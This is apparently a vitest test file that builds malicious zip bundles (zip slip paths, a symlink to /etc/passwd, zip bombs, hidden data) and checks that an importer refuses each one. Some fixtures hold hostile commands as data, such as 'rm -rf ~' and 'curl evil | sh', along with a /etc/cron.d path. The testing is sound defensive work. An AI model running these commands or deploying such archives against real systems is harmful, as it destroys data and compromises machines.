// Hostile bundles, each built here byte by byte: every one is refused, naming the entry and the rule, and the vault is untouched.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { deflateRawSync } from 'node:zlib';
import yazl from 'yazl';
import { safeName } from '../vault/vault-store.ts';
import type { BundleRule } from './bundle-error.ts';
import { sourceEntryPath } from './bundle-paths.ts';
import { importBundle } from './import-bundle.ts';
import type { Manifest } from './manifest.ts';
import type { ImportLimits } from './validate-bundle.ts';
import { buildZip, unicodePathExtra, validEntries, withManifest, type RawEntry, type RawLayout } from './test-zip.ts';
import { quotedOverlapBomb } from './test-zip-bomb.ts';

let base: string;
let dataDir: string;

beforeEach(async () => {
  base = await mkdtemp(join(tmpdir(), 'sv-hostile-'));
  dataDir = join(base, 'data', 'inner');
  // A vault that already holds something, so "unchanged" means more than "still empty".
  await mkdir(join(dataDir, 'vault', 'sessions', 'existing'), { recursive: true });
  await writeFile(join(dataDir, 'vault', 'sessions', 'existing', 'meta.json'), '{"kept":true}');
});
afterEach(async () => rm(base, { recursive: true, force: true }));

async function tree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const e of await readdir(dir, { recursive: true, withFileTypes: true })) {
    const path = join(e.parentPath, e.name);
    out[path.slice(dir.length)] = e.isFile() ? (await readFile(path)).toString('base64') : 'dir';
  }
  return out;
}

async function expectRefused(zip: Buffer, rule: BundleRule, entry: string | null, limits: Partial<ImportLimits> = {}): Promise<string> {
  const file = join(base, 'hostile.zip');
  await writeFile(file, zip);
  const before = await tree(base);
  const error = await importBundle(file, { dataDir, limits }).then(
    () => null,
    (err: unknown) => err as { rule?: string; entry?: string | null; message: string },
  );
  expect(error, 'the bundle was imported').not.toBeNull();
  expect({ rule: error?.rule, entry: error?.entry }).toEqual({ rule, entry });
  expect(error?.message).toContain(`(${rule})`);
  expect(await tree(base)).toEqual(before);
  return error?.message ?? '';
}

const good = () => validEntries();
const zipOf = (extra: RawEntry[] = [], change: (m: ReturnType<typeof good>['manifest']) => unknown = (m) => m) => {
  const { entries, manifest } = good();
  return buildZip(withManifest([...entries, ...extra], change(manifest)));
};

const folder = safeName('jido-code:s-1');
type Listed = Omit<RawEntry, 'name'> & { originalPath: string };

/** A correct bundle that also holds these sources, each listed in the manifest (size, SHA-256) under its original path. */
function withListed(sources: Listed[]): { entries: RawEntry[]; manifest: Manifest } {
  const { entries, manifest } = good();
  const extra = sources.map(({ originalPath, ...e }) => ({ ...e, name: sourceEntryPath(folder, originalPath) }));
  const template = manifest.files[1] as Manifest['files'][number];
  const files = extra.map((e, i) => ({
    ...template,
    path: e.name,
    size: e.data.length,
    sha256: createHash('sha256').update(e.data).digest('hex'),
    role: 'artifact' as const,
    originalPath: sources[i]?.originalPath ?? null,
  }));
  return { entries: [...entries, ...extra], manifest: { ...manifest, files: [...manifest.files, ...files] } };
}

const zipListing = (sources: Listed[], layout?: RawLayout) => {
  const { entries, manifest } = withListed(sources);
  return buildZip(withManifest(entries, manifest), layout);
};

async function expectImported(zip: Buffer): Promise<void> {
  const file = join(base, 'good.zip');
  await writeFile(file, zip);
  const report = await importBundle(file, { dataDir });
  expect(report.imported.map((s) => s.key)).toEqual(['jido-code:s-1']);
}

describe('a correct bundle built the same way', () => {
  it('imports, so every refusal below is down to the one thing each test breaks', async () => {
    await expectImported(zipOf());
  });

  it('imports with a streamed entry (bit 3: zeros in the local header, the values in a data descriptor, as yazl writes)', async () => {
    await expectImported(zipListing([{ originalPath: '/home/dev/streamed.jsonl', data: Buffer.from('{"a":1}\n'.repeat(500)), method: 8, descriptor: {} }]));
  });

  it('imports when yazl writes it in ZIP64 form (as past 4 GiB): ZIP64 extra fields, 8-byte data descriptor sizes, ZIP64 end record', async () => {
    const { entries, manifest } = good();
    const zip = new yazl.ZipFile();
    const [json, source, last] = withManifest(entries, manifest) as [RawEntry, RawEntry, RawEntry];
    zip.addBuffer(json.data, json.name, { forceZip64Format: true });
    zip.addReadStream(Readable.from([source.data]), source.name, { forceZip64Format: true });
    zip.addBuffer(last.data, last.name, { forceZip64Format: true, compress: false });
    zip.end({ forceZip64Format: true, comment: '' });
    const chunks: Buffer[] = [];
    for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
    await expectImported(Buffer.concat(chunks));
  });

  it('imports names that only look like the ones Windows reserves', async () => {
    const names = ['auxiliary.json', 'con-notes.txt', 'COM10', 'nul_', 'lpt.txt', '.console', 'a.b.c', 'x(1) [2] {3} & #4'];
    await expectImported(zipListing(names.map((n) => ({ originalPath: `/home/dev/${n}`, data: Buffer.from(n) }))));
  });
});

describe('zip slip, in every spelling', () => {
  it.each([
    ['parent segment', '../evil.txt', 'a ".." segment (zip slip)'],
    ['parent segment deep inside', 'sessions/x/../../../evil.txt', 'a ".." segment (zip slip)'],
    ['absolute path', '/tmp/evil.txt', 'an absolute path'],
    ['drive letter with slash', 'C:/Windows/evil.txt', 'a drive-letter path'],
    ['drive letter without slash', 'C:evil.txt', 'a drive-letter path'],
    ['backslashes', 'sessions\\..\\..\\evil.txt', 'a backslash in the path'],
    ['dot segment', 'sessions/./evil.txt', 'a path that is not normalized'],
    ['empty segment', 'sessions//evil.txt', 'a path that is not normalized'],
  ])('%s: %s', async (_label, name, why) => {
    const message = await expectRefused(zipOf([{ name, data: Buffer.from('pwned') }]), 'unsafe-path', name);
    expect(message).toContain(why);
    expect(existsSync(join(base, 'evil.txt'))).toBe(false);
  });

  it('a Unicode Path extra field that walks out is judged by the name readers would use', async () => {
    const extra = unicodePathExtra('sessions/innocent.txt', '../evil.txt');
    await expectRefused(zipOf([{ name: 'sessions/innocent.txt', data: Buffer.from('x'), extra }]), 'unsafe-path', '../evil.txt');
  });
});

describe('names not every platform can create, refused on every platform', () => {
  it.each([
    ['a reserved device name', '/home/dev/CON', 'CON'],
    ['a reserved name with an extension', '/home/dev/aux.json', 'aux.json'],
    ['a reserved name in another case', '/home/dev/NUL.txt', 'NUL.txt'],
    ['a numbered port', '/home/dev/com1.log', 'com1.log'],
    ['a printer port with two extensions', '/home/dev/Lpt9.tar.gz', 'Lpt9.tar.gz'],
    ['a reserved folder', '/home/dev/prn/notes.md', 'prn'],
    ['a colon (an NTFS alternate data stream)', '/home/dev/a:b', 'a:b'],
    ['a less-than sign', '/home/dev/x<y.txt', 'x<y.txt'],
    ['a greater-than sign', '/home/dev/x>y.txt', 'x>y.txt'],
    ['a double quote', '/home/dev/say"hi".txt', 'say"hi".txt'],
    ['a pipe', '/home/dev/a|b', 'a|b'],
    ['a question mark', '/home/dev/what?.md', 'what?.md'],
    ['an asterisk', '/home/dev/star*.md', 'star*.md'],
    ['a trailing dot', '/home/dev/notes.', 'notes.'],
    ['a trailing space', '/home/dev/notes ', 'notes '],
    ['a folder with a trailing dot', '/home/dev/dir./x.txt', 'dir.'],
  ])('a name Windows refuses or reserves: %s', async (_label, originalPath, segment) => {
    const name = sourceEntryPath(folder, originalPath);
    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'windows-unsafe-name', name);
    expect(message).toContain(`"${segment}"`);
  });

  it('folders nested deeper than 32 levels', async () => {
    const originalPath = `/home/${Array.from({ length: 40 }, (_, i) => `d${i}`).join('/')}/x.txt`;
    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'path-too-deep', sourceEntryPath(folder, originalPath));
    expect(message).toContain('at most 32');
  });

  it.each([
    ['a file name longer than 255 bytes', `/home/dev/${'n'.repeat(256)}.txt`, 'longer than 255 bytes'],
    [
      'a path longer than 1024 characters',
      `/home/${Array.from({ length: 25 }, (_, i) => `${i}`.padEnd(50, 'x')).join('/')}.txt`,
      'longer than 1024 characters',
    ],
  ])('%s', async (_label, originalPath, why) => {
    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'path-too-long', sourceEntryPath(folder, originalPath));
    expect(message).toContain(why);
  });
});

describe('links, duplicates, encryption', () => {
  it('a symlink entry', async () => {
    await expectRefused(zipOf([{ name: 'sessions/link', data: Buffer.from('/etc/passwd'), unixMode: 0o120777 }]), 'symlink', 'sessions/link');
  });

  it.each([
    ['the same name twice', 'sessions/a.txt', 'sessions/a.txt'],
    ['names differing only in case', 'sessions/Notes.txt', 'sessions/notes.TXT'],
    ['composed and decomposed é', 'sessions/caf\u00e9.txt', 'sessions/cafe\u0301.txt'],
  ])('%s', async (_label, first, second) => {
    const message = await expectRefused(
      zipOf([
        { name: first, data: Buffer.from('1') },
        { name: second, data: Buffer.from('2') },
      ]),
      'duplicate-name',
      second,
    );
    expect(message).toContain(first);
  });

  it('a file that is also the folder of another file', async () => {
    await expectRefused(
      zipOf([
        { name: 'sessions/a', data: Buffer.from('1') },
        { name: 'sessions/A/b.txt', data: Buffer.from('2') },
      ]),
      'duplicate-name',
      'sessions/A/b.txt',
    );
  });

  it('an encrypted entry (traditional ZipCrypto: a 12-byte header before the data)', async () => {
    const data = Buffer.concat([Buffer.alloc(12, 7), Buffer.from('ciphertext')]);
    await expectRefused(zipOf([{ name: 'sessions/secret.bin', data, declaredSize: 10, flags: 0x1 }]), 'encrypted', 'sessions/secret.bin');
  });

  it('an entry with strong encryption, which the zip reader stops at before naming it', async () => {
    await expectRefused(zipOf([{ name: 'sessions/strong.bin', data: Buffer.from('x'), flags: 0x41 }]), 'encrypted', null);
  });

  it('an unknown compression method', async () => {
    await expectRefused(zipOf([{ name: 'sessions/lzma.bin', data: Buffer.from('x'), method: 14 }]), 'unsupported-compression', 'sessions/lzma.bin');
  });
});

describe('zip bombs', () => {
  it('by compression ratio', async () => {
    const bomb = { name: 'sessions/zeros.bin', data: Buffer.alloc(4 * 1024 * 1024), method: 8 };
    const message = await expectRefused(zipOf([bomb]), 'compression-ratio', 'sessions/zeros.bin', { maxRatio: 100 });
    expect(message).toMatch(/expands \d+:1/);
  });

  it('by entry count', async () => {
    const many = Array.from({ length: 60 }, (_, i) => ({ name: `sessions/f${i}.txt`, data: Buffer.from('x') }));
    await expectRefused(zipOf(many), 'too-many-entries', null, { maxEntries: 50 });
  });

  it('by total uncompressed size', async () => {
    const big = Array.from({ length: 4 }, (_, i) => ({ name: `sessions/big${i}.bin`, data: Buffer.alloc(300_000, i + 1), method: 8 }));
    await expectRefused(zipOf(big), 'total-size', 'sessions/big3.bin', { maxTotalBytes: 1_000_000 });
  });

  it('by lying about its size: more bytes come out than the header declares', async () => {
    const { entries, manifest } = good();
    const [json, source] = entries as [RawEntry, RawEntry];
    const liar = { ...source, data: Buffer.concat([source.data, Buffer.alloc(200_000, 0x20)]), method: 8, declaredSize: source.data.length };
    await expectRefused(buildZip(withManifest([json, liar], manifest)), 'size-mismatch', source.name);
  });
});

describe('broken or dishonest archives', () => {
  it('a truncated archive', async () => {
    const whole = zipOf();
    await expectRefused(whole.subarray(0, Math.floor(whole.length * 0.6)), 'not-a-zip', null);
  });

  it('not a zip at all', async () => {
    await expectRefused(Buffer.from('{"format":"session-vault-bundle"}'), 'not-a-zip', null);
  });

  it('a file whose bytes do not match its checksum', async () => {
    const { entries, manifest } = good();
    const [json, source] = entries as [RawEntry, RawEntry];
    const tampered = { ...source, data: Buffer.from(source.data.toString().replace('s-1', 's-9')) };
    const message = await expectRefused(buildZip(withManifest([json, tampered], manifest)), 'checksum-mismatch', source.name);
    expect(message).toContain('changed or damaged');
  });

  it('a missing manifest', async () => {
    await expectRefused(buildZip(good().entries), 'manifest-missing', 'manifest.json');
  });

  it('a manifest from a future format version', async () => {
    const message = await expectRefused(
      zipOf([], (m) => ({ ...m, formatVersion: 2 })),
      'manifest-version',
      'manifest.json',
    );
    expect(message).toContain('newer Session Vault');
  });

  it('a manifest that is not JSON, or not a bundle manifest', async () => {
    const { entries } = good();
    await expectRefused(buildZip([...entries, { name: 'manifest.json', data: Buffer.from('{nope') }]), 'manifest-invalid', 'manifest.json');
    await expectRefused(
      zipOf([], (m) => ({ ...m, format: 'something-else' })),
      'manifest-invalid',
      'manifest.json',
    );
  });

  it('an entry the manifest does not list', async () => {
    await expectRefused(zipOf([{ name: 'sessions/extra.sh', data: Buffer.from('rm -rf ~') }]), 'unlisted-entry', 'sessions/extra.sh');
  });

  it('a listed file the zip does not hold', async () => {
    const { entries, manifest } = good();
    await expectRefused(buildZip(withManifest([entries[0] as RawEntry], manifest)), 'entry-missing', (entries[1] as RawEntry).name);
  });

  it('a source file placed where its original path does not lead', async () => {
    const message = await expectRefused(
      zipOf([], (m) => ({ ...m, files: m.files.map((f) => (f.kind === 'source' ? { ...f, originalPath: '/etc/cron.d/evil' } : f)) })),
      'unsafe-path',
      good().entries[1]?.name ?? '',
    );
    expect(message).toContain('source/<its original path>');
  });
});

describe('entries that share bytes (zip bombs by overlap)', () => {
  it('two central directory records pointing at the same local header', async () => {
    const data = Buffer.from('{"shared":true}\n');
    const { entries, manifest } = withListed([
      { originalPath: '/home/dev/a.json', data },
      { originalPath: '/home/dev/b.json', data, sharesLocalOf: 2 },
    ]);
    const message = await expectRefused(buildZip(withManifest(entries, manifest)), 'overlapping-entries', sourceEntryPath(folder, '/home/dev/b.json'));
    expect(message).toContain(sourceEntryPath(folder, '/home/dev/a.json'));
  });

  it('the "better zip bomb": each entry\'s data runs on into the next entry\'s, with true sizes and CRCs', async () => {
    const paths = Array.from({ length: 100 }, (_, i) => `/home/dev/bomb/${i}.bin`);
    const bomb = quotedOverlapBomb(
      paths.map((p) => sourceEntryPath(folder, p)),
      Buffer.alloc(512 * 1024),
    );
    const { entries, manifest } = withListed(bomb.map(({ name: _name, ...e }, i) => ({ ...e, originalPath: paths[i] as string })));
    const zip = buildZip(withManifest(entries, manifest).map((e) => (e.name === 'manifest.json' ? { ...e, method: 8 } : e)));
    // Past the 1000:1 the ratio rule allows, though no entry of it is over that rule's limit.
    const expands = bomb.reduce((sum, e) => sum + e.data.length, 0);
    expect(expands / zip.length).toBeGreaterThan(1000);
    const message = await expectRefused(zip, 'overlapping-entries', sourceEntryPath(folder, paths[1] as string));
    expect(message).toContain(sourceEntryPath(folder, paths[0] as string));
  });

  it('many small entries that together expand past the ratio limit, each under the size it is checked at', async () => {
    const zeros = Array.from({ length: 8 }, (_, i) => ({ originalPath: `/home/dev/zeros${i}.bin`, data: Buffer.alloc(1024 * 1024), method: 8 }));
    const message = await expectRefused(zipListing(zeros), 'compression-ratio', null, { maxRatio: 100 });
    expect(message).toMatch(/the whole bundle expands \d+:1/);
  });
});

describe('local headers that disagree with the central directory', () => {
  const source = good().entries[1] as RawEntry;
  it.each([
    ['name', { local: { name: 'evil.sh' } }, 'name'],
    ['compression method', { local: { method: 8 } }, 'compression method'],
    ['flags', { local: { flags: 0x800 | 0x2 } }, 'flags'],
    ['CRC-32', { local: { crc: 0x1234 } }, 'CRC-32'],
    ['compressed size', { local: { compressedSize: 3 } }, 'compressed size'],
    ['uncompressed size', { local: { uncompressedSize: 3 } }, 'uncompressed size'],
    ['data descriptor CRC-32', { descriptor: { crc: 0x1234 } }, 'data descriptor'],
    ['data descriptor size', { descriptor: { uncompressedSize: 3 } }, 'data descriptor'],
  ] as Array<[string, Partial<RawEntry>, string]>)('%s', async (_label, lie, field) => {
    const { entries, manifest } = good();
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'header-mismatch', source.name);
    expect(message).toContain(field);
  });
});

describe('bytes the end record or the central directory hide', () => {
  const hidden: Listed = { originalPath: '/home/dev/hidden.sh', data: Buffer.from('curl evil | sh\n') };
  it.each([
    ['the end record counts fewer entries than the central directory holds', { endCount: 3 }, 'counts 3 entries'],
    ['a local entry the central directory leaves out', { unlisted: [3] }, 'belong to no entry'],
    ['data before the first entry', { prepend: Buffer.alloc(64, 0x90) }, 'belong to no entry'],
    ['data between two entries', { after: { index: 0, bytes: Buffer.from('PK\x03\x04 hidden') } }, 'belong to no entry'],
    ['data between the central directory and the end record', { beforeEnd: Buffer.from('hidden') }, 'central directory'],
  ] as Array<[string, RawLayout, string]>)('%s', async (_label, layout, why) => {
    const { entries, manifest } = withListed([hidden]);
    // Hidden by the end record or the central directory, the entry is written last and listed nowhere.
    const hiddenLast = [...withManifest(entries.slice(0, 2), good().manifest), entries[2] as RawEntry];
    const zip = layout.endCount !== undefined || layout.unlisted ? buildZip(hiddenLast, layout) : buildZip(withManifest(entries, manifest), layout);
    const message = await expectRefused(zip, 'hidden-data', null);
    expect(message).toContain(why);
  });

  it('bytes inside an entry after its deflate stream ends', async () => {
    const { entries, manifest } = good();
    const source = entries[1] as RawEntry;
    const body = Buffer.concat([deflateRawSync(source.data), Buffer.from('PK\x03\x04 a second archive hides here')]);
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, method: 8, body }], manifest)), 'hidden-data', source.name);
    expect(message).toContain('deflate data ends');
  });

  it('a folder entry that carries data', async () => {
    await expectRefused(zipOf([{ name: 'sessions/x/', data: Buffer.from('hidden') }]), 'hidden-data', 'sessions/x/');
  });
});

describe('wrong CRC-32', () => {
  it.each([
    ['a stored source', { crc: 0xdeadbeef }],
    ['a deflated source', { crc: 0xdeadbeef, method: 8 }],
    ['a streamed source (the CRC in its data descriptor)', { crc: 0xdeadbeef, method: 8, descriptor: {} }],
  ] as Array<[string, Partial<RawEntry>]>)('%s', async (_label, lie) => {
    const { entries, manifest } = good();
    const source = entries[1] as RawEntry;
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'crc-mismatch', source.name);
    expect(message).toContain('deadbeef');
  });

  it('in the manifest itself', async () => {
    const { entries, manifest } = good();
    const [manifestEntry] = withManifest([], manifest) as [RawEntry];
    await expectRefused(buildZip([...entries, { ...manifestEntry, crc: 0xdeadbeef }]), 'crc-mismatch', 'manifest.json');
  });
});
